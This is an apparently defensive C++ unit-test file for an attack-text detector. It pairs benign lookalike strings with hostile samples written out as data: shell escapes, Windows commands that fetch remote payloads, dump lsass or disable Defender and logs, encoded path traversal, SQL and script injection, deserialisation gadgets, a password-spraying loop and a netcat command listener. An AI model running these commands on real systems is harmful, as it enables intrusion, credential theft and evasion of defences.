// Structures that an intruder writes, each beside what people write every day.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "capabilities/guard/code/code.h"
#include "capabilities/guard/code/windows_rules.h"

namespace credence::guard {
namespace {

constexpr double kFlags = 0.4;

bool finds(std::string_view text, Detector detector) {
    std::vector<Detected> found;
    find_code(text, found);
    return std::ranges::any_of(found, [&](const Detected& item) {
        return item.detector == detector && item.confidence >= kFlags;
    });
}

bool flags_text(std::string_view text) {
    std::vector<Detected> found;
    find_code(text, found);
    return std::ranges::any_of(found,
                               [](const Detected& item) { return item.confidence >= kFlags; });
}

void expect_all(std::initializer_list<std::string_view> texts, Detector detector) {
    for (const std::string_view text : texts) {
        EXPECT_TRUE(finds(text, detector)) << text;
    }
}

void expect_none(std::initializer_list<std::string_view> texts) {
    for (const std::string_view text : texts) {
        EXPECT_FALSE(flags_text(text)) << text;
    }
}

TEST(Shells, GivenToProgramsThatHaveNoBusinessWithOne) {
    expect_all(
        {"less notes.txt\n!/bin/sh", "ed\n!/bin/bash", "watchtool --hook /bin/sh",
         "find . -exec /bin/sh \\; -quit", "PAGER='/bin/sh -s --' manual topic",
         "splitter --filter='/bin/sh -i 0<&2 1>&2' list.txt",
         "luatool -e 'os.execute(\"/bin/sh\")'", "node -e 'spawn(\"/bin/bash\", {stdio: 0})'"},
        Detector::shell_privilege);
}

TEST(Shells, OrdinaryUsesOfAShellPass) {
    expect_none({"#!/bin/sh\necho hello\n", "useradd -m -s /bin/bash anna",
                 "docker run --rm -it debian /bin/bash", "chsh --shell /bin/zsh", "ls -l /bin/sh",
                 "sudo -u anna /bin/bash -l", "grep -l 'bin/ksh' scripts/*",
                 "getent passwd anna | grep /bin/bash"});
}

TEST(Windows, ProgramsThatRunWhatAnIntruderBrought) {
    expect_all({"rundll32.exe advpack.dll,LaunchINFSection C:\\Users\\x\\a.inf,Default,1",
                "msiexec /q /i http://192.0.2.7/a.msi", "cmstp.exe /ni /s C:\\Temp\\a.inf",
                "regsvr32 /s /u /i:a.sct scrobj.dll", "mavinject.exe 3110 /INJECTRUNNING C:\\a.dll",
                "odbcconf.exe /a {REGSVR C:\\a.dll}",
                "certutil -verifyctl -f -split http://192.0.2.7/a.exe",
                "copy c:\\windows\\system32\\cmd.exe c:\\windows\\system32\\sethc.exe"},
               Detector::windows_attack);
}

TEST(Windows, ProtectionSwitchedOffAndSecretsTaken) {
    expect_all(
        {"reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v "
         "UseLogonCredential /t REG_DWORD /d 1",
         "New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a "
         "-Value C:\\a.exe",
         "ntdsutil \"ac i ntds\" ifm \"create full c:\\a\" q q", "fltmc.exe unload FilterDriver",
         "procdump.exe -ma lsass.exe out.dmp", "auditpol /clear /y",
         "fsutil usn deletejournal /D C:", "sc.exe config WinDefend start= disabled",
         "Clear-EventLog -LogName Security", "netsh advfirewall set allprofiles state off",
         "&(\"{1}{0}{2}\" -f 'voke-','In','Expression') $text"},
        Detector::windows_attack);
}

TEST(Windows, OrdinaryAdministrationPasses) {
    expect_none({"msbuild src\\app.csproj /p:Configuration=Release", "net use",
                 "reg query HKCU\\Software\\Git", "sc query spooler", "forfiles /m *.log",
                 "certutil -hashfile setup.iso SHA256", "schtasks /query /fo LIST",
                 "Get-Service | Where-Object Status -eq Running", "netsh interface show interface",
                 "string.Format(\"{0}{1}\", first, last)", "net localgroup"});
}

TEST(Windows, RulesOfAWord) {
    EXPECT_FALSE(windows_rules("rundll32").empty());
    EXPECT_TRUE(windows_rules("house").empty());
    EXPECT_TRUE(windows_rules("").empty());
    for (const WindowsRule& rule : windows_rules("reg")) {
        EXPECT_EQ(rule.word, "reg");
        EXPECT_GT(rule.confidence, 0.4);
        EXPECT_LT(rule.confidence, 1);
    }
}

TEST(Traversal, StepsWrittenSoAsToBeOverlooked) {
    expect_all({"..%c0%2f..%c0%2fetc/issue", "%e0%80%ae%e0%80%ae%2fx", "%%32%65%%32%65%%32%66a",
                "..2f..2f..2fetc2fissue", "/..///..///..///x", "/.\\\\./.\\\\./.\\\\./x",
                "..%uefc8..%uefc8x", "../../../../logs/error.log"},
               Detector::path_traversal);
    expect_none({"import config from '../../config'", "/caf%C3%A9/men%C3%BC?x=%E2%82%AC",
                 "cd ../.. && make", "printf '%d%%\\n' 50"});
}

TEST(Sql, ValuesThatGoOnAsStatements) {
    expect_all({"' or name like '%", "'; desc users; --", "') grant connect to a; --",
                "declare @s varchar(99) select @s = 0x73656c exec(@s)", "uni/**/on sel/**/ect 1",
                "select * from pg_shadow", "1; copy t from program 'id'", "select @@version"},
               Detector::sql_injection);
    expect_none({"'Or is it?' she asked.", "'and' is a conjunction", "Users' and groups' rights",
                 "SELECT version FROM releases WHERE id = 7", "COPY t FROM 'data.csv' CSV",
                 "/* a comment */ SELECT 1"});
}

TEST(Markup, AddressesAndNamesThatHide) {
    expect_all({"<img src=\"jav\tascript:go()\">", "<a href=\"java&#x0a;script:go()\">x</a>",
                "x'><img src=x>", "a=eval;b=alert;a(b(1))", "[8].every(confirm)",
                "<b style=\"-moz-binding:url(//a.example/x)\">"},
               Detector::script_injection);
    expect_none({"<img src=\"java.png\" alt=\"a>b\">", "<a href=\"jav/script.html\">x</a>",
                 "<p class='a'><b>text</b></p>", "items.filter(isOpen)"});
}

TEST(Templates, ServerSideIncludesAndConditions) {
    EXPECT_TRUE(finds("<!--#echo var=\"DATE_LOCAL\" -->", Detector::template_injection));
    EXPECT_TRUE(finds("${new File('/etc/issue').text}", Detector::template_injection));
    EXPECT_TRUE(finds("{ $ne: 1 }", Detector::query_injection));
    EXPECT_TRUE(finds("{\"$gt\":\"\"}", Detector::query_injection));
    expect_none({"<!-- a comment -->",
                 "{ price: { $gt: 10 }, open: true, owner: 'anna', sort: 'up',"
                 " page: 3, size: 40 }"});
}

TEST(Deserialisation, ObjectsThatRunWhenRead) {
    expect_all(
        {"--- !ruby/object:Gem::Installer\ni: x", "{\"a\":\"_$$ND_FUNC$$_function(){go()}()\"}"},
        Detector::unsafe_deserialisation);
    EXPECT_TRUE(finds("$o = unserialize($_GET['x']);", Detector::unsafe_deserialisation));
    expect_none({"ruby app.rb", "$o = unserialize(file_get_contents($cache));"});
}

TEST(Disguises, NamesCutApart) {
    EXPECT_TRUE(finds("p^o^w^e^r^shell -v", Detector::windows_attack));
    EXPECT_TRUE(finds("ping%ProgramFiles:~10,1%192.0.2.1", Detector::windows_attack));
    EXPECT_TRUE(finds("wh``oami", Detector::shell_obfuscated));
    EXPECT_TRUE(finds("who$@ami", Detector::shell_obfuscated));
    expect_none({"x^2 + y^2 = z^2", "echo \"$@\"", "sed 's/^a/b/' notes.txt", "a ``quoted'' word"});
}

TEST(ShellLoops, PasswordsTriedAndAddressesCollected) {
    expect_all({"for u in $(cat users.txt); do sshpass -p summer ssh $u@host; done",
                "grep -roE '[a-z]+@[a-z]+\\.[a-z]+' /home > out.txt"},
               Detector::shell_secrets);
    EXPECT_TRUE(finds("nc -l 4000 | while read line; do $line; done", Detector::shell_reverse));
    expect_none({"grep -o '[0-9]*' counts.txt", "nc -z db.example.org 5432"});
}

TEST(Shell, OrdinaryLinesThatWereTakenForAttacks) {
    expect_none({"name=`hostname`", "find $HOME -name core -exec rm -f {} \\;",
                 "curl -s https://api.example.org/items | python -m json.tool",
                 "sudo EDITOR=vim visudo"});
}

}  // namespace
}  // namespace credence::guard
